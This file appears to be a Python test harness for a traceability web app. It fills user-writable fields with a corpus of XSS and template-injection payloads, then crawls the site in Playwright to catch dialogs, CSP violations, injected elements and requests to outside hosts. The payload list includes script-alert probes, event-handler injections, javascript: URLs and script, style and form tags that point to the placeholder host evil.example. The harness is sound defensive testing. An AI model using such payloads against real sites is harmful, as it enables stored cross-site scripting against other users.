"""Markup in every field that others write, and a crawl of all pages in a browser that listens.

    infested = infest(world)                       every outsider's field holds markup
    seeds = addresses(app, infested, signed_in)    a path for each page of the URL map
    found = crawl(page, address, seeds)            what went wrong; and where it went

New pages are found by themselves: from the URL map, with what is known for the parameters of its rules (and
markup for those that are not known), and by the links on pages. A field that a new part of the site lets
others write is to be filled in ``infest``.
"""

from __future__ import annotations

from collections import Counter, deque
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from itertools import cycle
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

from flask import Flask
from playwright.sync_api import Dialog, Error, Page, Response
from werkzeug.exceptions import HTTPException

from tests.support.recalls import order
from tests.support.world import LIMITS, World
from traceability.identifiers import Batch
from traceability.operations.accounts.trail import COMMAND_LINE
from traceability.operations.codes import new_code
from traceability.operations.deposit import deposit, describe
from traceability.operations.recall import Issuer, issue
from traceability.operations.recallscope import Notice
from traceability.operations.record import make_event, record_event
from traceability.operations.visitors.reports import Kind, Told, answer_report, file_report
from traceability.supply.notice import Purpose
from webapp.signedin import classification

CORPUS = (
    "<x-pwned></x-pwned><script>alert(1)</script>",
    "<img src=x onerror=alert(1)><x-pwned>",
    '"><x-pwned onmouseover=alert(1) autofocus tabindex=1 onfocus=alert(1)>',
    "'><svg onload=alert(1)><x-pwned/>",
    "</title></textarea></script></style><x-pwned><script src=//evil.example/x.js></script>",
    "javascript:alert(1)//<x-pwned>",
    "{{ 7*7 }}${7*7}<x-pwned>%(name)s%s{% raw %}",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><x-pwned>",
    "<style>*{background:url(//evil.example)}</style><x-pwned><base href=//evil.example>",
    "--><!--<x-pwned>]]><![CDATA[<x-pwned>",
    "\u202e<x-pwned>\u2066&lt;x-pwned&gt;&#60;x-pwned&#62;",
    "<form action=//evil.example><button>x</button></form><meta http-equiv=refresh content=0><x-pwned>",
)
LOTS = ("\"'><x-pwned>", "a/21/<x-pwned>", "%3Cx-pwned%3E")
QUERY = ("lang", "code", "gtin", "lot", "next", "serial", "thing", "q", "token", "page", "party", "state")
"""Names of parameters that pages read from their addresses."""
TYPED = {"consumer.batch", "consumer.item", "reporting.form"}
"""Pages of one lot that show what was typed into their addresses."""
PER_ENDPOINT = 2
"""Pages of one kind that are looked at beside those that were named."""
LISTEN = """
// How a browser itself shows a picture or plain text has a style of its own, which our rules refuse.
addEventListener("securitypolicyviolation", e => document.contentType === "text/html"
  && console.error(`CSP ${location.pathname} ${e.violatedDirective} ${e.blockedURI}`));
"""
LOOK = """() => [
  ...document.querySelectorAll("x-pwned, iframe, base, form[action*='evil'], [onerror], [onload], [onfocus]"),
  ...[...document.querySelectorAll("a, area, form, button")].filter(
    e => /^\\s*(javascript|data):/i.test(e.getAttribute("href") || e.getAttribute("action") || "")),
  ...[...document.scripts].filter(s => !s.src.startsWith(location.origin)),
].map(e => e.outerHTML.slice(0, 120))"""


@dataclass
class Infested:
    """A world full of markup: whose parties there are, and what stands for the parameters of rules."""

    world: World
    parties: tuple[str, ...]
    known: Mapping[str, tuple[str, ...]]


@dataclass
class Found:
    """What a crawl saw: what was wrong, and how many pages of each path's first words answered."""

    wrong: list[str] = field(default_factory=list)
    seen: Counter[str] = field(default_factory=Counter)


def infest(world: World) -> Infested:
    """Markup in names of parties, products, regions, assets, devices, documents; in recalls and reports."""
    words = cycle(CORPUS)
    farm, other = world.party(next(words)), world.party(next(words), "9520000000028")
    asset = {"en": next(words), "zh": next(words)}
    ilmd: dict[str, Any] = {"ft:product": {"en": next(words), "zh": next(words)}}
    ilmd |= {"ft:temperature": dict(LIMITS), "cbvmda:bestBeforeDate": next(words)}
    lots = [world.batch(lot) for lot in LOTS]
    where: dict[str, Any] = {
        "ft:region": {"en": next(words), "zh": next(words)},
        "ft:regionCentre": "geo:25.6,100.2",
    }

    def record(step: str, party: str, **members: Any) -> None:
        record_event(world.store, world.node, party, make_event(step, world.now_ms, **members, **where))
        world.wait(minutes=1)

    named = [{"epcClass": uri, "quantity": 1, "uom": "KGM"} for uri in lots]
    record("harvest", farm, quantityList=named[:-1], ilmd=ilmd)
    record("make", other, inputQuantityList=named[:1], outputQuantityList=named[-1:], ilmd=ilmd)
    truck, probe = world.asset("TRUCK"), world.device(farm, model=next(words))
    world.install(farm, probe, truck)
    members: dict[str, Any] = {"parentID": truck, "childQuantityList": named[:1], "ft:asset": asset}
    record("load", farm, **members)
    world.measure(probe, 3.0, 9.0)
    papers = zip(CORPUS, [p for p in Purpose if p is not Purpose.VERIFIER], strict=False)
    notices = [_deposit(world, farm, lots[0], word, purpose) for word, purpose in papers]
    recall = _recall(world, farm, lots[1], next(words), next(words))
    references = tuple(_report(world, lot, next(words), farm) for lot in (LOTS[0], LOTS[2]))
    new_code(world.store, world.node, party=farm, model=next(words))
    world.publish()
    known = {
        "gtin": (world.gtin,),
        "lot": LOTS,
        "serial": ("<x-pwned>",),
        "notice": tuple(notices),
        "recall": (recall,),
        "recall_id": (recall,),
        "reference": references,
        "kind": ("products", "places", "assets"),
        "name": ("harvest", "70x37"),
        "tongue": ("en",),
    }
    return Infested(world, (farm, other), known)


def addresses(app: Flask, infested: Infested, by: str) -> Iterator[str]:
    """Paths of all pages that are for these: ``public`` or ``signed-in``; each also with markup typed in."""
    payloads = dict(zip(QUERY, cycle(CORPUS), strict=False))
    with app.test_request_context():
        for rule in app.url_map.iter_rules():
            found = classification(rule.endpoint)
            readable = "GET" in (rule.methods or ()) and rule.endpoint != "static"
            if found is None or found.by != by or not readable:
                continue
            names = rule.arguments - set(rule.defaults or ())
            most = max((len(infested.known.get(name, ())) for name in names), default=1)
            for number in range(min(most, PER_ENDPOINT) or 1):
                values = {n: _value(infested, n, number) for n in names}
                path = app.url_map.bind("").build(rule.endpoint, values)
                yield f"{path}?lang=en"
            if not names or rule.endpoint in TYPED:
                values = {n: _value(infested, n, 0) for n in names}
                path = app.url_map.bind("").build(rule.endpoint, values)
                yield f"{path}?{urlencode(payloads)}"


def follower(app: Flask, by: str) -> Callable[[str], bool]:
    """Whether a path leads to a page that is for these: ``public`` or ``signed-in``."""
    matcher = app.url_map.bind("")

    def follow(path: str) -> bool:
        try:
            endpoint, _ = matcher.match(path)
        except HTTPException:
            return by == "public"
        with app.app_context():
            found = classification(endpoint)
        return found is not None and found.by == by

    return follow


def crawl(
    page: Page, address: str, seeds: Iterable[str], follow: Callable[[str], bool] = lambda _: True
) -> Found:
    """Open these pages and what they link to, and look for anything that markup brought about.

    Args:
        follow: whether to open what a link on a page leads to, by its path.
    """
    found, waiting = Found(), deque(seeds)
    where, kinds, opened = [""], Counter[str](), set[str]()
    page.add_init_script(LISTEN)
    page.on("dialog", lambda dialog: _refuse(found, where[0], dialog))
    page.on("pageerror", lambda error: found.wrong.append(f"{where[0]}: {error}"))
    page.on("console", lambda said: _listen(found, where[0], said.text))
    page.on("request", lambda asked: _require_own(found, where[0], address, asked.url))
    while waiting:
        path = waiting.popleft()
        if path in opened:
            continue
        opened.add(path)
        where[0] = path
        answer = _open(page, address + path)
        if answer is None:
            continue  # a file to keep
        found.seen[f"{answer.status} {path.split('?')[0].split('/')[1]}"] += 1
        if not answer.headers.get("content-type", "").startswith("text/html"):
            continue
        found.wrong += [f"{path}: {element}" for element in page.evaluate(LOOK)]
        for link in page.eval_on_selector_all("a[href]:not([download])", "all => all.map(a => a.href)"):
            kind = "/".join(urlsplit(link).path.split("/")[:2])
            if not follow(urlsplit(link).path):
                continue
            if link.startswith(address + "/") and "lang=zh" not in link and kinds[kind] < PER_ENDPOINT:
                kinds[kind] += 1
                waiting.append(link.removeprefix(address).partition("#")[0])
    return found


def _open(page: Page, url: str) -> Response | None:
    try:
        return page.goto(url, wait_until="load")
    except Error as error:
        if "Download is starting" in error.message or "ERR_ABORTED" in error.message:
            return None
        raise


def _refuse(found: Found, where: str, dialog: Dialog) -> None:
    found.wrong.append(f"{where}: a dialog")
    dialog.dismiss()


def _listen(found: Found, where: str, text: str) -> None:
    if text.startswith("CSP "):
        found.wrong.append(f"{where}: {text}")


def _require_own(found: Found, where: str, address: str, url: str) -> None:
    if not url.startswith((address, "blob:", "data:image/", "about:")):
        found.wrong.append(f"{where}: asked for {url}")


def _value(infested: Infested, name: str, number: int) -> str:
    known = infested.known.get(name, ())
    return known[number % len(known)] if known else quote(CORPUS[number % len(CORPUS)], safe="")


def _deposit(world: World, farm: str, uri: str, word: str, purpose: Purpose) -> str:
    name = "".join(c for c in word if c not in "/\\\u202e\u2066")[:100]
    notice = describe(b"<script>alert(1)</script>", f"{name}.html", uri, purpose)
    return deposit(world.store, world.node, farm, b"<script>alert(1)</script>", notice).statement.hex()


def _recall(world: World, farm: str, uri: str, hazard: str, advice: str) -> str:
    texts = {"en": hazard, "zh": hazard}, {"en": advice, "zh": advice}
    said = order(world, uri, notice=Notice(1, *texts, hazard[:200]))
    return issue(world.store, world.node, Issuer(farm), said).id


def _report(world: World, lot: str, word: str, farm: str) -> str:
    told = Told(Kind.ILL, word, word, serial=word[:20])
    reference = file_report(world.store, world.node, Batch(world.gtin, lot), told, None)
    answer_report(world.store, COMMAND_LINE, reference, word, close=False)
    return reference
